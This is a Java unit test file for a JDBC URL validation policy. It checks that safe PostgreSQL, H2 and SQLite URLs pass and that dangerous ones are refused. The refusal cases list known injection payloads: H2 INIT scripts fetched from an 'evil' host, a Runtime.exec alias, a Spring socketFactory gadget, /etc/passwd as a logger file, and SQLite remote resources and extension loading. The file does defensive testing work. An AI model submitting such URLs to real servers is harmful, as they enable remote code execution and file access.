package dev.ferry.connection.internal;

import dev.ferry.connection.ConnectionKind;
import dev.ferry.problem.InvalidException;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

class JdbcUrlPolicyTests {

	@ParameterizedTest
	@CsvSource(delimiter = '|', textBlock = """
			jdbc:postgresql://db.example:5432/app                                  | POSTGRESQL
			jdbc:postgresql://db/app?sslmode=require&ApplicationName=x            | POSTGRESQL
			jdbc:h2:file:./data/demo/app;NON_KEYWORDS=YEAR,VALUE                  | H2
			jdbc:h2:file:/tmp/test;MODE=PostgreSQL;DB_CLOSE_DELAY=-1               | H2
			jdbc:h2:tcp://localhost/~/app                                         | H2
			jdbc:h2:file:/tmp/app;IFEXISTS=TRUE;ACCESS_MODE_DATA=r                | H2
			jdbc:postgresql://[::1]:5432/app?ApplicationName=a@b                   | POSTGRESQL
			JDBC:H2:./relative/db                                                 | H2
			jdbc:sqlite:/tmp/cultivars.db                                          | SQLITE
			jdbc:sqlite:data/demo/cultivars.db?journal_mode=WAL                    | SQLITE
			""")
	void acceptsTheThreeKinds(String url, ConnectionKind kind) {
		assertThat(JdbcUrlPolicy.check(url)).isEqualTo(kind);
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|',
			textBlock = """
					jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'                  | could run code
					jdbc:h2:mem:x;init=create alias exec for "java.lang.Runtime.exec"     | could run code
					jdbc:h2:file:/tmp/x;TRACE_LEVEL_FILE=3                                 | could run code
					jdbc:h2:mem:x;AUTHENTICATOR=com.evil.Auth                              | AUTHENTICATOR is not allowed
					jdbc:h2:mem:x;DATABASE_EVENT_LISTENER=com.evil.L                       | DATABASE_EVENT_LISTENER is not allowed
					jdbc:h2:mem:x;PASSWORD=secret                                          | PASSWORD is not allowed
					jdbc:h2:zip:/tmp/x.zip!/db                                             | other file systems
					jdbc:h2:mem:test;MODE=PostgreSQL;DB_CLOSE_DELAY=-1                     | An in-memory H2 database (jdbc:h2:mem:)
					JDBC:H2:MEM:x                                                           | An in-memory H2 database (jdbc:h2:mem:)
					jdbc:h2:mem:                                                            | An in-memory H2 database (jdbc:h2:mem:)
					jdbc:mysql://db/app                                                     | jdbc:mysql: is not one of them
					jdbc:oracle:thin:@db:1521:x                                             | jdbc:oracle: is not one of them
					http://example.com                                                      | is not one of them
					jdbc:postgresql://db/app?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext | socketfactory is not allowed
					jdbc:postgresql://db/app?loggerFile=/etc/passwd                        | loggerfile is not allowed
					jdbc:postgresql://db/app?password=secret                               | password is not allowed
					jdbc:postgresql://db/app?user=x&password=secret                        | password is not allowed
					jdbc:postgresql://alice:secret@db:5432/app                             | put the user in the username field
					jdbc:postgresql://alice@db/app                                         | put the user in the username field
					jdbc:h2:file:/tmp/x;IFEXISTS=FALSE                                     | never creates one
					jdbc:h2:file:/tmp/x;ifexists=false                                     | never creates one
					jdbc:h2:file:/tmp/x;ACCESS_MODE_DATA=rw                                | a URL may only ask for r
					jdbc:h2:file:/tmp/x;AUTO_SERVER=TRUE                                   | opens a TCP server
					jdbc:h2:file:/tmp/x;AUTO_SERVER_PORT=9090                              | opens a TCP server
					jdbc:sqlite::resource:http://evil/x.db                                  | resources and extensions
					jdbc:sqlite:/tmp/x.db?enable_load_extension=true                       | resources and extensions
					jdbc:sqlite:/tmp/x.db?open_mode=70                                     | open_mode is not allowed
					""")
	void refusesWhatCouldBeAWayIntoTheServer(String url, String message) {
		assertThatExceptionOfType(InvalidException.class).isThrownBy(() -> JdbcUrlPolicy.check(url))
			.withMessageContaining(message)
			.satisfies(ex -> assertThat(ex.getField()).isEqualTo("jdbcUrl"));
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', nullValues = "-",
			textBlock = """
					jdbc:postgresql://db/app?user=x                 | -        | user=x would replace the username field (empty)
					jdbc:postgresql://db/app?ssl=true&USER=postgres | alice    | user=postgres would replace the username field (alice)
					""")
	void refusesAUserInTheUrlThatIsNotTheUsernameField(String url, String username, String message) {
		assertThatExceptionOfType(InvalidException.class).isThrownBy(() -> JdbcUrlPolicy.checkUser(url, username))
			.withMessageContaining(message);
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', textBlock = """
			jdbc:postgresql://db/app?user=postgres | postgres
			jdbc:postgresql://db/app               | postgres
			jdbc:h2:file:/tmp/x                    | ferry_app
			""")
	void acceptsAUserInTheUrlThatSaysWhatTheFieldSays(String url, String username) {
		JdbcUrlPolicy.checkUser(url, username);
		assertThat(JdbcUrlPolicy.check(url)).isNotNull();
	}

}
